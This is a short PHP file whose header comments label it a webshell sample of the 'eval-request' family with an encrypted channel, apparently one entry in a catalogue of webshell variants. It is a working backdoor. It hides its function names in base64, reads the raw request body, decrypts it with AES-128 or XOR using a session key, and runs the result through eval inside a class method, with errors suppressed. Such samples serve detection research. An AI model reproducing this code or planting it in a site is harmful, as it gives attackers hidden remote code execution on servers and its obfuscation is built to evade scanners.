<?php
// Family: webshell/eval-request
// Style: encrypted channel: the request body is decrypted with a session key and evaluated
// Trait: php://input read through a name decoded at run time, AES or XOR with the key, eval inside a class method
session_start();
$key = substr(md5('demo-key'), 0, 16);
$_SESSION['k'] = $key;
$names = explode('|', base64_decode('ZmlsZV9nZXRfY29udGVudHN8cGhwOi8vaW5wdXQ='));
$body = $names[0]($names[1]);
if (function_exists('openssl_decrypt')) {
	$body = openssl_decrypt($body, 'AES128', $key);
} else {
	for ($i = 0; $i < strlen($body); $i++) {
		$body[$i] = $body[$i] ^ $key[$i + 1 & 15];
	}
}
class Runner { public function __invoke($p) { eval($p . ''); } }
@call_user_func(new Runner(), $body);
